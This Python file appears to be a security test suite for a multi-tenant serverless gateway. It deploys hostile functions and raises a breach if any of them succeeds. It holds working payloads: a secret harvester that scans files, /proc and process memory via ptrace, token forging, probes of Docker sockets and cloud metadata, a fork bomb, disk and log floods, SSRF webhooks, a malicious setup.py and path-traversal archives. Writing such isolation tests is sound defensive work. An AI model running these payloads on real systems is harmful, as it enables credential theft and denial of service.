"""The attacks of `make attack`: the code of the hostile functions, and the programs of the hostile callers."""

from __future__ import annotations

import asyncio
import contextlib
import datetime
import functools
import json
import time
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from urllib.parse import urlsplit

from attack_stage import ATTACKS, HELLO, Attack, Breach, Stage, attack, trap
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials

# It looks for keys and secrets, and returns all that it has found. The patterns do not match their own text.
SPY = r"""
import ctypes, json, os, re, socket, stat
from pilotflame.runtime.link.frames import FrameKind, encode_json
SECRET = re.compile(rb"canary-[0-9a-f]{32}|pf_[0-9a-f]{12}_[0-9a-f]{64}")
TOKEN = re.compile(rb"[0-9a-f]{16}\.[0-9a-f]{32}")

def seen(path, form=SECRET, most=64 << 20):
    found = set()
    try:
        with open(path, "rb") as file:
            while most > 0 and (data := file.read(1 << 20)):
                found.update(form.findall(data))
                most -= len(data)
    except OSError:
        pass
    return found

def pids():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]

def files(event):
    found = set()
    for folder, names, others in os.walk("/"):
        names[:] = [name for name in names if os.path.join(folder, name) not in ("/proc", "/sys")]
        for path in (os.path.join(folder, name) for name in others):
            found |= seen(path) if os.path.isfile(path) else set()
    for path in event["paths"]:
        for root in ("", "/proc/1/root", "/proc/self/cwd/../..", "/dev/.."):
            found |= seen(root + path)
    for number in (os.makedev(254, 0), os.makedev(8, 0)):
        try:
            os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, number)
            found.add(b"a device of a disk")
        except OSError:
            pass
    return found

def environment(event):
    found = set(SECRET.findall(repr(dict(os.environ)).encode()))
    for pid in pids():
        for name in ("environ", "cmdline", "mountinfo", "cgroup"):
            found |= seen(f"/proc/{pid}/{name}")
        if seen(f"/proc/{pid}/cmdline", re.compile(rb"(?:zygote|worker|standby) (?:hello|work) ")):
            found.add(b"a process of another function")
    return found

def memory(event, form=SECRET):
    found, libc = set(), ctypes.CDLL(None)
    for pid in pids():
        traced = pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0
        if traced:
            os.waitpid(pid, 0x40000000)
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                for line in maps:
                    begin, end = (int(text, 16) for text in line.split()[0].split("-"))
                    if line.split()[1][:2] == "rw":
                        try:
                            mem.seek(begin)
                            found.update(form.findall(mem.read(min(end - begin, 64 << 20))))
                        except (OSError, ValueError):
                            pass
        except OSError:
            pass
        if traced:
            libc.ptrace(17, pid, 0, 0)
    return found

def accepted(path, token, role):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(1)
        sock.connect(path)
        sock.sendall(encode_json(FrameKind.HELLO, 0, {"token": token, "role": role}))
        try:
            return sock.recv(1) != b""
        except TimeoutError:
            return True
        except OSError:
            return False

def sockets(event):
    tokens = {token.decode() for token in memory(event, TOKEN)}
    forged = {token[:17] + "0" * 32 for token in tokens} | {"0" * 16 + "." + "0" * 32}
    found = {f"HELLO as {role} of a used token".encode() for token in [*sorted(tokens)[:20], *sorted(forged)[:20]]
             for role in ("zygote", "worker") if accepted(event["link"], token, role)}
    targets = [(socket.AF_UNIX, path) for path in event["sockets"]]
    targets += [(socket.AF_INET, tuple(address)) for address in event["addresses"]]
    for family, target in targets:
        with socket.socket(family) as sock:
            sock.settimeout(0.3)
            if sock.connect_ex(target) == 0 if family == socket.AF_INET else os.path.exists(target):
                found.add(repr(target).encode())
    return found

PLACES = {"paths": os.environ.get("PATHS", "").split(":")}
AT_IMPORT = files(PLACES) | environment(PLACES) | memory(PLACES) if "PATHS" in os.environ else set()

def build(context):
    return files(PLACES) | environment(PLACES) | memory(PLACES) if "PATHS" in os.environ else set()

def handler(event, context):
    found = AT_IMPORT | context.state if event["do"] == "build" else globals()[event["do"]](event)
    return sorted(text.decode() for text in found)
"""
# A write of 65,536 bytes has 65,536 lines.
PRINTS = """
import os, time
def handler(event):
    until, lines = time.monotonic() + event["s"], 0
    while time.monotonic() < until:
        lines += os.write(1, b"\\n" * 65536)
        print("x\\n" * 65536, end="")
    return lines
"""
GREETS = """
import select, socket, time
def handler(event):
    until, held, closed = time.monotonic() + event["s"], {}, 0
    poll = select.poll()
    while time.monotonic() < until:
        while len(held) < 1000 and time.monotonic() < until:
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(1)
            if sock.connect_ex(event["link"]):
                break
            held[sock.fileno()] = sock
            poll.register(sock, select.POLLIN)
        for number, _ in poll.poll(50):
            poll.unregister(number)
            held.pop(number).close()
            closed += 1
    return closed
"""
FLOODS = """
import gc, time
from pilotflame.runtime.link.connection import Link
from pilotflame.runtime.link.frames import FrameKind, encode
def handler(event, context):
    yield "first"
    link = next(one for one in gc.get_objects() if isinstance(one, Link))
    frame = memoryview(encode(FrameKind.CHUNK, context._channel, b"", b'"' + b"x" * (1 << 20) + b'"'))
    until, left = time.monotonic() + event["s"], 1024
    while left and time.monotonic() < until:
        rest, left = frame, left - 1
        while rest and time.monotonic() < until:
            try:
                rest = rest[link.sock.send(rest):]
            except BlockingIOError:
                time.sleep(0.001)
"""
FORKS = """
import os, time
def handler(event):
    until, begun, refused = time.monotonic() + event["s"], os.getpid(), 0
    while time.monotonic() < until:
        try:
            os.fork()
        except OSError:
            refused += 1
    if os.getpid() != begun:
        os._exit(0)
    return refused
"""
FILLS = """
import os, time
def handler(event):
    until, written = time.monotonic() + event["s"], {}
    while time.monotonic() < until:
        for folder in ("/tmp", "/dev/shm", "/", "/run", "/var/tmp", os.path.dirname(__file__)):
            count = 0
            try:
                with open(f"{folder}/full", "wb") as file:
                    while count < 4096:
                        count += file.write(bytes(1 << 20)) >> 20
            except OSError:
                pass
            written[folder] = max(count, written.get(folder, 0))
            try:
                os.unlink(f"{folder}/full")
            except OSError:
                pass
    return {folder: count for folder, count in written.items() if count}
"""
LARGE = "def handler(event):\n    return 'x' * (64 << 20)\n"
SLOW = "import time\ndef handler(event):\n    time.sleep(0.02)\n"
METADATA = [["169.254.169.254", 80], ["169.254.170.2", 80], ["10.0.2.2", 80], ["1.1.1.1", 53]]
ENGINES = ["/var/run/docker.sock", "/run/podman/podman.sock", "/run/dbus/system_bus_socket"]
RESULTS_MB = 1024


def spied(stage: Stage, do: str) -> str:
    """Let the spy look in one way until the time is over."""
    state, rounds, port = str(stage.state), 0, urlsplit(stage.server.url).port
    event: dict[str, Any] = {
        "link": f"{state}/run/link.sock", "sockets": [f"{state}/run/own.sock", stage.engine.removeprefix("unix://"), *ENGINES],
        "addresses": [["127.0.0.1", port], *METADATA], "paths": places(stage),
    }  # fmt: skip
    while stage.on or not rounds:
        rounds += 1
        if found := stage.evil(do=do, **event):
            raise Breach(f"the container found {found}")
    return f"nothing found in {rounds} rounds"


def places(stage: Stage) -> list[str]:
    """Return the files of the gateway that hold keys and secrets."""
    folders = [stage.state / "access", stage.state / "run"]
    return [str(path) for folder in folders for path in folder.rglob("*") if path.is_file()]


SPIED = {
    "files": "keys and secrets in all files, and devices of disks",
    "environment": "keys and secrets in environments and /proc",
    "memory": "keys and secrets in the memory of processes, with ptrace",
    "sockets": "used and forged tokens on the link socket, other sockets, metadata of clouds",
}
for way, tries in SPIED.items():
    ATTACKS[way] = Attack(tries, functools.partial(spied, do=way), handler=SPY)


@attack("code that runs at a deploy, and archives that lead outside")
def build_steps(stage: Stage) -> str:
    marker, keys = stage.root / "marker", str(stage.state / "access" / "keys.json")
    setup = f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\nimport setuptools\nsetuptools.setup(name='evil')\n"
    code = {"handler.py": HELLO}
    hostile: dict[str, tuple[dict[str, str], dict[str, str]]] = {
        "a process": (code, {"image.name": ""}),
        "the host's network": (code, {"resources.network": "host"}),
        "another tenant's name": (code, {"name": "hello"}),
        "a snapshot": (code, {"snapshot": keys}),
        "a link": ({**code, "keys": f"-> {keys}"}, {}),
        "a path": ({**code, "../../access/keys.json": "{}"}, {}),
        "an image of a folder": (code, {"image.name": f"dir:{stage.state}"}),
    }
    for what, (members, settings) in hostile.items():
        status, answer = stage.deploy(members, settings)
        if status < 400:
            raise Breach(f"{what} was deployed: {answer}")
    cog = f"build:\n  run: [touch {marker}]\n"
    stage.deploy({**code, "requirements.txt": "./evil\n", "evil/setup.py": setup, "cog.yaml": cog}, {})
    if marker.exists():
        raise Breach("setup.py ran on the machine of the gateway")
    status, answer = stage.deploy({"handler.py": SPY}, {"env.PATHS": ":".join(places(stage))})
    if status != 201:
        raise RuntimeError(f"the spy was not deployed: {answer}")
    return f"{len(hostile)} deploys refused, setup.py did not run; at import and build: {spied(stage, 'build')}"


@attack("webhooks, alerts and queues at loopback and metadata addresses", handler=HELLO)
def metadata(stage: Stage) -> str:
    with trap() as (target, hits):
        port = urlsplit(target).port
        hosts = ("127.0.0.1", "localhost", "0.0.0.0", "[::ffff:127.0.0.1]", "2130706433", "127.1")
        urls = [*(f"http://{host}:{port}/" for host in hosts), "http://169.254.169.254/latest/meta-data/"]
        hooks = [{"input": 1, "webhook": url} for url in urls]
        refused = sum(stage.request("POST", "/v2/evil/run", hook)[0] >= 400 for hook in hooks)
        for url in urls[:2]:
            stage.deploy({"handler.py": HELLO}, {"alerts.url": url, "alerts.cold_start_ms": "0.001"})
            stage.evil(n=1)
        queue = f"[[source]]\ntype = 'sqs'\nqueue = '{target}/1/q'\nregion = 'us-east-1'\n"
        if stage.deploy({"handler.py": HELLO, "pilotflame.toml": queue}, {})[0] < 400:
            raise Breach("a queue outside the policy was deployed")
        time.sleep(2)
        if hits:
            raise Breach(f"the gateway sent {hits[:3]}")
    return f"{refused} of {len(urls)} webhooks refused at once, no request sent"


HOOKS = {"webhook_networks": ["127.0.0.2/32"]}


@attack("webhooks that an allowed server redirects to loopback", handler=HELLO, gateway=HOOKS)
def webhook_redirects(stage: Stage) -> str:
    with trap() as (target, hits), trap("127.0.0.2", target) as (allowed, redirected):
        while stage.on or not redirected:
            stage.ask("POST", "/v2/evil/run", {"input": 1, "webhook": f"{allowed}/hook"})
            time.sleep(0.5)
        if hits:
            raise Breach(f"the gateway followed to {hits[:3]}")
        return f"{len(redirected)} redirects were not followed"


@attack("a snapshot that an allowed server redirects to an address outside the policy")
def snapshot_redirects(stage: Stage) -> str:
    with trap() as (target, hits), trap("127.0.0.2", target) as (allowed, _):
        key = {"name": "other", "scopes": ["deploy"], "policy": {"snapshots": [f"{allowed}/*"]}}
        stage.keys["deployer"] = stage.ask("POST", "/v1/keys", key, key="admin")["key"]
        status, answer = stage.deploy({"handler.py": HELLO}, {"snapshot": f"{allowed}/weights"})
        if hits:
            raise Breach(f"the gateway followed to {hits[:3]}, which the policy does not allow")
        return f"not followed: {status} {answer['error']['message']}"


@attack("prints of 65,536 lines", handler=PRINTS)
def prints(stage: Stage) -> str:
    lines, stored_mb = stage.evil(s=stage.seconds), stage.size_mb("*.jsonl*")
    if stored_mb > 100:
        raise Breach(f"{stored_mb:.0f} MB of logs are stored")
    return f"{lines:,} lines printed, {stored_mb:.1f} MB stored"


@attack("1,000 silent connections to the link socket", handler=GREETS)
def greetings(stage: Stage) -> str:
    return f"{stage.evil(s=stage.seconds, link=f'{stage.state}/run/link.sock'):,} connections were closed"


@attack("chunk frames beyond the credit, 1 GiB, to a caller that reads nothing", handler=FLOODS)
def frames(stage: Stage) -> str:
    parts, body = urlsplit(stage.server.url), json.dumps({"s": stage.seconds})
    head = f"POST /invoke/evil HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {stage.keys['caller']}\r\nAccept: text/event-stream\r\n"
    sent = f"{head}Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}"

    async def call() -> None:
        _, writer = await asyncio.open_connection(parts.hostname, parts.port, limit=1024)
        writer.write(sent.encode())
        await asyncio.sleep(stage.seconds)
        writer.transport.abort()

    asyncio.run(call())
    return "the frames were not kept"


@attack("a fork bomb", handler=FORKS)
def fork_bomb(stage: Stage) -> str:
    return f"{stage.evil(s=stage.seconds):,} forks refused in one process"


@attack("disks are filled", handler=FILLS)
def disk(stage: Stage) -> str:
    written = stage.evil(s=stage.seconds)
    if sum(written.values()) > 1200:
        raise Breach(f"the container has written {written} MiB")
    return f"at most {written} MiB written"


@attack("results of jobs fill the disk of the gateway: 24 of 64 MiB", handler=LARGE)
def results(stage: Stage) -> str:
    for _ in range(24):
        stage.request("POST", "/v2/evil/runsync", {"input": 1})
    if (stored_mb := stage.size_mb("jobs.sqlite3*")) > RESULTS_MB:
        raise Breach(f"{stored_mb:,.0f} MB of results are stored, without a limit of the tenant")
    return f"{stored_mb:,.0f} MB stored"


def submit_and_restart(stage: Stage) -> None:
    """Submit 400 jobs of 10 MiB, and start the gateway again."""
    body = json.dumps({"input": "x" * ((10 << 20) - 64)}).encode()
    with ThreadPoolExecutor(4) as pool:
        statuses = list(pool.map(lambda _: stage.request("POST", "/v2/shared/run", body)[0], range(400)))
    stage.notes = f"{statuses.count(200)} of 400 jobs accepted"
    stage.stop()
    stage.start()


@attack("400 jobs of 10 MiB wait at a restart", shared=SLOW, prepare=submit_and_restart)
def restart(stage: Stage) -> str:
    time.sleep(stage.seconds)
    return stage.notes


@attack("jobs queued before another tenant's one", shared=SLOW)
def turns(stage: Stage) -> str:
    accepted, kind = 0, {"Content-Type": "application/cloudevents-batch+json"}
    for first in range(0, stage.jobs, 1000):
        one = {"specversion": "1.0", "source": "/evil", "type": "evil", "data": 1}
        batch = json.dumps([{**one, "id": str(number)} for number in range(first, first + 1000)]).encode()
        status, _ = stage.request("POST", "/v2/shared/run", batch, headers=kind)
        accepted += 1000 * (status == 202)
    begun_s = time.monotonic()
    status, answer = stage.request("POST", "/v2/shared/runsync?wait=30000", {"input": 1}, key="beta")
    took_s = time.monotonic() - begun_s
    text = f"{accepted:,} of {stage.jobs:,} accepted; the other tenant's job took {took_s:.2f} s"
    if status != 200 or answer.get("status") != "COMPLETED" or took_s > 2:
        raise Breach(f"{text}: {status} {answer}")
    return text


@attack("200 unfinished bodies of 10 MiB with bogus signatures of another tenant's key")
def bodies(stage: Stage) -> str:
    parts, _, key = urlsplit(stage.server.url), *stage.keys["alpha"].rsplit("_", 1)
    path, day = "/lambda/2015-03-31/functions/hello/invocations", datetime.datetime.now(datetime.UTC)
    scope = f"Credential={stage.keys['alpha'][3:15]}/{day:%Y%m%d}/us-east-1/lambda/aws4_request"
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {parts.netloc}\r\nX-Amz-Date: {day:%Y%m%dT%H%M%SZ}\r\nContent-Length: {10 << 20}\r\n"
        f"Authorization: AWS4-HMAC-SHA256 {scope}, SignedHeaders=host;x-amz-date, Signature={'0' * 64}\r\n\r\n"
    )

    async def hold() -> None:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection(parts.hostname, parts.port)
            writer.write(head.encode() + bytes(9 << 20))
            await asyncio.sleep(stage.seconds)
            writer.transport.abort()

    def signed() -> int:
        request = AWSRequest("POST", stage.server.url + path, data=json.dumps("x" * (256 << 10)))
        SigV4Auth(Credentials(stage.keys["alpha"][3:15], key), "lambda", "us-east-1").add_auth(request)
        return stage.request("POST", path, request.body, key="", headers=dict(request.headers))[0]

    async def hold_all() -> list[int]:
        holding = [asyncio.create_task(hold()) for _ in range(200)]
        await asyncio.sleep(1)
        statuses = [await asyncio.to_thread(signed)]
        await asyncio.gather(*holding)
        return statuses

    before, during = signed(), asyncio.run(hold_all())
    if {before, *during} != {200}:
        raise Breach(f"the other tenant's own signed call of 256 KiB: {before} before, {during} meanwhile")
    return "the other tenant's own signed calls were answered"


@attack(
    "warm-ups of 64 workers for a day",
    handler=HELLO,
    settings={"scale.max": "64"},
    gateway={"max_workers": 6},
)
def warmup(stage: Stage) -> str:
    statuses = set()
    while stage.on:
        statuses.add(stage.request("POST", "/v2/evil/warmup?workers=64&for_s=86400", {})[0])
        time.sleep(0.2)
    workers = stage.ask("GET", "/v1/functions/evil", key="deployer")["workers"]
    return f"{sorted(statuses)}: {workers['ready']} of 6 places held"
